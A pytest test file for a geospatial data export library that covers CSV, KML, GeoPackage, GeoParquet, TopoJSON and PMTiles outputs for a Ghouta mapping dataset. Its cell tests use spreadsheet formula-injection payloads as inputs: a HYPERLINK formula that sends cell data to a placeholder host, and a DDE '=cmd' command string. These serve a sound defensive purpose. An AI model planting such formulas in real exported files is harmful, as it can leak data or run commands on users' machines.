"""CSV, flat rows, KML, GeoPackage styles, GeoParquet metadata and TopoJSON, each by its own ecosystem's rules."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import sqlite3
from xml.etree import ElementTree as ET

import geopandas as gpd
import pandas as pd
import pyarrow.parquet as pq
import pyogrio
import pytest
import shapely
from exports_data import ACTORS, HOSTILE, content_of, table_of
from hypothesis import given
from hypothesis import strategies as st

from geo_ghouta import exports
from geo_ghouta.errors import FormatError, UsageError
from geo_ghouta.exports.catalog import LAYERS
from geo_ghouta.exports.shapes import canonical
from geo_ghouta.files import ert, inert
from geo_ghouta.schema import CLAIMS, CONTROL, PLACES, REPORTS

KML = "{http://www.opengis.net/kml/2.2}"
FORMULA = tuple("=+-@\t\r")


# Cells ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x.invalid/?q="&A1,"open")', '\'=HYPERLINK("http://x.invalid/?q="&A1,"open")'),  # F167
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+1 -2", "'+1 -2"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1+1", "'  =1+1"),  # F169
        ("\u200b=1", "'\u200b=1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("\u202e=1", "'\u202e=1"),
        ("＝1+1", "'＝1+1"),
        ("'=1", "''=1"),
        ("-5.25", "-5.25"),
        ("+3.2e4", "+3.2e4"),
        ("Harasta = town", "Harasta = town"),
        ("حرستا", "حرستا"),
        ("'tis", "'tis"),
        ("", ""),
    ],
)
def test_formula_cells_are_inert(text, cell):
    assert inert(text) == cell
    assert ert(cell) == text


@given(st.text(alphabet=" \t\r\n'=+-@＝x1.e\u200b", max_size=12))
def test_inert_cells_come_back(text):
    cell = inert(text)
    assert ert(cell) == text
    bare = cell.lstrip(" \t\r\n\u200b")
    assert not bare.startswith(("=", "@", "＝")) or cell.startswith("'")


def test_headers_are_cells_too():
    # F168
    table = table_of("events", 1)
    table["=cmd|' /C calc'!A0"] = "x"
    table["-5.25"] = -5.25
    data = exports.write_layer("events", table, None, format="csv").decode()
    header, row = csv.reader(io.StringIO(data))
    assert "'=cmd|' /C calc'!A0" in header
    assert row[header.index("-5.25")] == "-5.25"


def test_no_cell_of_any_layer_is_a_formula():
    for name in exports.LAYERS:
        data = exports.write_layer(name, table_of(name, 25), None, format="csv").decode()
        for row in csv.reader(io.StringIO(data, newline="")):
            for cell in row:
                assert not cell.startswith(FORMULA) or inert(cell) == cell


def test_csv_reads_in_pandas_and_keeps_direction_marks():
    # F175, F176: exports keep the original characters
    table = table_of("events", len(HOSTILE))
    frame = pd.read_csv(
        io.BytesIO(exports.write_layer("events", table, None, format="csv")), dtype="str", keep_default_na=False
    )
    assert "A\u202eB\u2066C\u200bD" in set(frame["place"]) | set(frame["place_id"]) | set(frame["speakers"]) | set(
        frame["claim_ids"]
    )
    assert len(frame) == len(table)


# Flat rows --------------------------------------------------------------------------------------------------------


def words():
    text = "\ufeffحرستا 😀\r\n=Buses left Harasta’s gate."
    report = {"report_id": "r1", "doc_id": "=007", "text": text, "published_basis": "unknown", "path": "a", "sha256": "0",
              "text_sha256": "0"}  # fmt: skip
    start = text.index("Harasta")
    place = {
        "mention_id": "m1", "report_id": "r1", "start": start, "end": start + 7, "text": "Harasta", "form": "name", "key": "harasta",
        "resolution": "placed", "name": "Harasta", "match": "exact", "score": 1.0, "geo_precision": "town", "uncertainty_m": 1500,
        "kind": "town", "date": "2018-03-22", "geometry": shapely.Point(36.365, 33.5586),
    }  # fmt: skip
    lost = place | {"mention_id": "m0", "start": 1, "end": 6, "text": "حرستا", "resolution": "not_found", "match": "none",
                    "geo_precision": "unknown", "geometry": None, "name": None, "score": None}  # fmt: skip
    claim = {
        "claim_id": "c1", "report_id": "r1", "start": start - 12, "end": start + 7, "kind": "departure", "value": 7000.0,
        "low": 7000.0, "unit": "people", "qualifier": "at_least", "modality": "happened", "origin": "Harasta",
        "date_from": "2018-03-22", "date_to": "2018-03-23", "place_basis": "stated", "date_basis": "stated", "date_precision": "day",
    }  # fmt: skip
    return REPORTS.table([report]), PLACES.table([place, lost]), CLAIMS.table([claim])


def test_flat_places():
    reports, places, _ = words()
    rows = exports.flat_rows("places", places, reports)
    head = ["doc_id", "start", "end", "text", "name", "lat", "lon", "kind", "match", "score", "resolution", "geo_precision",
            "uncertainty_m", "holder"]  # fmt: skip
    assert list(rows.columns)[: len(head)] == head
    assert "quote" not in rows.columns
    assert "geometry" not in rows.columns
    lines = [json.loads(line) for line in exports.rows_to_jsonl(rows).decode().splitlines()]
    assert [line["text"] for line in lines] == ["حرستا", "Harasta"]
    assert (lines[0]["lat"], lines[0]["name"]) == (None, None)
    assert (lines[1]["lat"], lines[1]["lon"], lines[1]["score"], lines[1]["date"]) == (33.5586, 36.365, 1, "2018-03-22")
    text = reports["text"][0]
    assert all(text[line["start"] : line["end"]] == line["text"] for line in lines)
    cells = list(csv.DictReader(io.StringIO(exports.rows_to_csv(rows).decode())))
    assert cells[1]["doc_id"] == "'=007"
    assert (cells[0]["lat"], cells[1]["lat"]) == ("", "33.5586")


def test_flat_claims():
    reports, _, claims = words()
    rows = exports.flat_rows("claims", claims, reports, quotes=True)
    head = ["doc_id", "start", "end", "kind", "value", "low", "high", "unit", "qualifier", "scope", "modality", "actor", "speaker",
            "origin", "destination", "date_from", "date_to", "date_basis", "story_id", "fact_id"]  # fmt: skip
    assert list(rows.columns)[: len(head)] == head
    (line,) = (json.loads(x) for x in exports.rows_to_jsonl(rows).decode().splitlines())
    assert line["quote"] == "Buses left Harasta"[-len(line["quote"]) :] or line["quote"].endswith("Harasta")
    assert reports["text"][0][line["start"] : line["end"]] == line["quote"]
    assert (line["value"], line["high"], line["date_to"]) == (7000, None, "2018-03-23")  # half-open, as in the contract
    assert "quote" not in exports.flat_rows("claims", claims.assign(quote="x"), reports).columns
    assert (
        exports.rows_to_csv(exports.flat_rows("claims", CLAIMS.empty(), reports))
        .decode()
        .startswith("doc_id,start,end,kind")
    )
    assert exports.rows_to_jsonl(exports.flat_rows("places", PLACES.empty(), reports)) == b""
    with pytest.raises(UsageError, match="only places and claims"):
        exports.flat_rows("events", claims, reports)


# KML --------------------------------------------------------------------------------------------------------------


def area(**values):
    row = {
        "area_id": "a", "name": "<b>pocket</b> & \u202eA", "holder": "group_a", "status": "assessed", "valid_from": "2018-03-18",
        "valid_to": "2018-03-24", "source": "own", "drawn_by": "me", "precision_m": 100,
        "geometry": shapely.box(36.3, 33.5, 36.4, 33.6),
    } | values  # fmt: skip
    return CONTROL.table([row])


def test_kml_has_longitude_first_and_days_included():
    # F067
    root = ET.fromstring(exports.write_layer("control", area(), None, format="kml", actors=ACTORS))
    pair = root.find(f".//{KML}coordinates").text.split()[0].split(",")
    assert 36.3 <= float(pair[0]) <= 36.4
    assert 33.5 <= float(pair[1]) <= 33.6
    assert root.findtext(f".//{KML}TimeSpan/{KML}begin") == "2018-03-18"
    assert root.findtext(f".//{KML}TimeSpan/{KML}end") == "2018-03-23"
    assert root.findtext(f".//{KML}Placemark/{KML}name") == "<b>pocket</b> & \u202eA"
    style = root.findtext(f".//{KML}styleUrl").removeprefix("#")
    colour = root.find(f".//{KML}Style[@id='{style}']/{KML}LineStyle/{KML}color").text
    assert colour == "ff2976ad"  # alpha, blue, green, red of #AD7629
    assert root.find(f".//{KML}description") is None  # Google Earth would read markup there
    open_end = ET.fromstring(exports.write_layer("control", area(valid_to=None), None, format="kml"))
    assert open_end.find(f".//{KML}TimeSpan/{KML}end") is None
    one = ET.fromstring(exports.write_layer("control", area(valid_to="2018-03-19"), None, format="kml"))
    assert one.findtext(f".//{KML}TimeStamp/{KML}when") == "2018-03-18"


def test_gdal_reads_our_kml_the_same(tmp_path):
    table = table_of("control")
    path = exports.write_layer("control", table, tmp_path / "control.kml")
    frame = pyogrio.read_dataframe(path, use_arrow=False)
    assert len(frame) == len(table)
    ours = exports.read_layer(path).geometry
    assert all(
        a.normalize().equals_exact(b.normalize(), 1e-9)
        for a, b in zip(shapely.force_2d(frame.geometry), ours, strict=True)
    )


# GeoPackage, FlatGeobuf, GeoParquet, TopoJSON -----------------------------------------------------------------------


def test_geopackage_carries_styles_days_and_types(tmp_path):
    (path,) = exports.write_layers(
        {n: table_of(n) for n in ("control", "events", "routes")}, tmp_path / "all.gpkg", actors=ACTORS
    )
    with contextlib.closing(sqlite3.connect(path)) as base:
        styles = dict(base.execute("select f_table_name, styleQML from layer_styles where useAsDefault"))
        types = {row[1]: row[2] for row in base.execute("pragma table_info(control)")}
        rows = base.execute("select min_x, max_y from gpkg_contents where table_name = 'control'").fetchall()
        assert base.execute("pragma integrity_check").fetchone() == ("ok",)
    assert set(styles) == {"control", "events", "routes"}
    assert (types["valid_from"], types["start"], types["precision_m"], types["besieged"]) == (
        "DATE",
        "DATE",
        "REAL",
        "BOOLEAN",
    )
    assert rows == [(36.1, 33.58)]
    root = ET.fromstring(styles["control"].partition("\n")[2])
    temporal = root.find("temporal")
    assert (temporal.get("enabled"), temporal.get("startField"), temporal.get("endField"), temporal.get("limitMode")) == (
        "1", "start", "end", "1",
    )  # fmt: skip
    renderer = root.find("renderer-v2")
    assert renderer.get("attr") == "holder"
    labels = {c.get("value"): c.get("label") for c in renderer.iter("category")}
    assert labels["group_a"] == "Group A"
    assert labels["group_b|group_a"] == "Group <B> & sons + Group A"
    fill = renderer.find("symbols/symbol[@name='0']/layer/Option/Option[@name='color']").get("value")
    assert fill == "173,118,41,150"


def test_two_geopackages_of_one_table_are_the_same(tmp_path):
    one = exports.write_layer("events", table_of("events"), tmp_path / "a.gpkg", actors=ACTORS)
    first = content_of(one)
    assert content_of(exports.write_layer("events", table_of("events"), one, actors=ACTORS)) == first
    assert [p.name for p in tmp_path.iterdir()] == ["a.gpkg"]


@pytest.mark.parametrize("suffix", ["gpkg", "fgb", "parquet", "geojson", "geojsonl"])
@pytest.mark.parametrize("name", ["control", "events", "places"])
def test_geopandas_reads_what_we_write(tmp_path, suffix, name):
    table = table_of(name)
    path = exports.write_layer(name, table, tmp_path / f"{name}.{suffix}")
    layer = {"layer": name} if suffix == "gpkg" else {}  # the styles are a table too
    frame = gpd.read_parquet(path) if suffix == "parquet" else gpd.read_file(path, **layer)
    assert frame.crs.to_epsg() == 4326 or frame.crs.to_authority() == ("OGC", "CRS84")
    assert sorted(frame[exports.LAYERS[name].contract.key]) == sorted(table[exports.LAYERS[name].contract.key])
    assert frame.geometry.isna().sum() == table.geometry.isna().sum()


def test_geoparquet_metadata(tmp_path):
    path = exports.write_layer("events", table_of("events"), tmp_path / "events.parquet")
    told = json.loads(pq.read_metadata(path).metadata[b"geo"])
    assert told["version"] == "1.1.0"
    column = told["columns"][told["primary_column"]]
    assert column["encoding"] == "WKB"
    assert column["geometry_types"] == ["Point"]
    assert column["covering"]["bbox"]["xmin"] == ["bbox", "xmin"]
    assert "crs" not in column  # the default, OGC:CRS84
    table = pq.read_table(path)
    assert table.schema.field("date_from").type == "date32[day]"
    boxes = table.column("bbox").to_pylist()
    shapes = shapely.from_wkb(table.column("geometry").to_pylist())
    assert [tuple(b.values()) for b in boxes] == [s.bounds for s in shapes]
    west = gpd.read_parquet(path, bbox=(-80, -40, -60, 0))
    assert (west.geometry.x < 0).all()
    assert 0 < len(west) < len(table)


def test_topojson_shares_borders():
    left, right = shapely.box(36, 33, 36.1, 33.2), shapely.box(36.1, 33, 36.2, 33.2)
    table = pd.concat([area(area_id="l", geometry=left), area(area_id="r", geometry=right)], ignore_index=True)
    data = json.loads(exports.write_layer("control", CONTROL.check(table), None, format="topojson"))
    assert data["type"] == "Topology"
    one, other = (g["arcs"][0] for g in data["objects"]["control"]["geometries"])
    shared = {a if a >= 0 else ~a for a in one} & {a if a >= 0 else ~a for a in other}
    assert len(shared) == 1
    assert sorted(data["arcs"][shared.pop()]) == [[36.1, 33.0], [36.1, 33.2]]
    assert len(data["arcs"]) == 3


def test_gdal_reads_our_topojson(tmp_path):
    table = table_of("control")
    path = exports.write_layer("control", table, tmp_path / "control.topojson")
    frame = pyogrio.read_dataframe(path, use_arrow=False)
    ours = exports.read_layer(path).set_index("area_id").geometry
    theirs = frame.set_index("area_id").geometry
    assert all(ours[i].symmetric_difference(theirs[i]).area < 1e-12 for i in ours.index)


@given(
    st.lists(
        st.tuples(st.integers(0, 4), st.integers(0, 4), st.integers(1, 3), st.integers(1, 3)), min_size=1, max_size=6
    )
)
def test_any_mosaic_of_boxes_comes_back_from_topojson(tmp_path_factory, boxes):
    rows = [
        area(area_id=str(i), geometry=shapely.box(36 + x / 10, 33 + y / 10, 36 + (x + w) / 10, 33 + (y + h) / 10))
        for i, (x, y, w, h) in enumerate(boxes)
    ]
    table = CONTROL.check(pd.concat(rows, ignore_index=True))
    path = exports.write_layer("control", table, tmp_path_factory.mktemp("topo") / "control.topojson")
    back = exports.read_layer(path)
    assert all(a.equals(b) for a, b in zip(back.geometry, table.geometry, strict=True))


def test_tiles(tmp_path):
    table = table_of("control")
    first = exports.write_layer("control", table, tmp_path / "control.pmtiles", case="Case").read_bytes()
    assert exports.write_layer("control", table, tmp_path / "control.pmtiles", case="Case").read_bytes() == first
    assert [p.name for p in tmp_path.iterdir()] == ["control.pmtiles"]
    info = pyogrio.read_info(tmp_path / "control.pmtiles")
    assert info["driver"] == "PMTiles"
    assert {"area_id", "holder", "start", "end"} <= set(info["fields"])
    (tmp_path / "text.pmtiles").write_text("no tiles", "utf-8")
    with pytest.raises(FormatError, match="not a PMTiles file"):
        exports.read_layer(tmp_path / "text.pmtiles", "control")
    with pytest.raises(UsageError, match="has no geometry"):
        exports.write_layer("control", table.iloc[:0], tmp_path / "empty.pmtiles")
    with pytest.raises(UsageError, match="holds one layer"):
        exports.write_layers({"control": table, "events": table_of("events")}, tmp_path / "all.pmtiles")


@pytest.mark.parametrize("name", LAYERS)
def test_tiles_come_back_but_for_two_metres(tmp_path, name):
    table = table_of(name, 12)
    table = table if LAYERS[name].contract.geometry else gpd.GeoDataFrame(table, geometry=[None] * len(table), crs=4326)
    kept = table[table.geometry.notna()].sort_values(LAYERS[name].contract.key).reset_index(drop=True)
    path = tmp_path / f"{name}.pmtiles"
    if not len(kept):
        with pytest.raises(UsageError, match="has no geometry"):
            exports.write_layer(name, table, path)
        return
    back = exports.read_layer(exports.write_layer(name, table, path))
    pd.testing.assert_frame_equal(
        pd.DataFrame(kept.drop(columns="geometry")), pd.DataFrame(back.drop(columns="geometry"))
    )
    for old, new in zip(kept.geometry, back.geometry, strict=True):
        old = canonical(old)
        assert shapely.get_dimensions(old) == shapely.get_dimensions(new)
        assert shapely.hausdorff_distance(old, new) < 2 / 111_000 / 0.83
        assert new.area == pytest.approx(old.area, rel=1e-3)


def test_the_page_of_tables_is_the_contracts():
    from geo_ghouta.exports.contract_page import packaged_page, tables_page
    from geo_ghouta.schema import ALL

    assert packaged_page() == tables_page(), "run python -m geo_ghouta.exports.contract_page"
    for contract in ALL:
        section = packaged_page().partition(f"## {contract.name}\n")[2].partition("\n## ")[0]
        assert [line.split("`")[1] for line in section.splitlines() if line.startswith("| `")] == [
            c.name for c in contract.columns
        ]
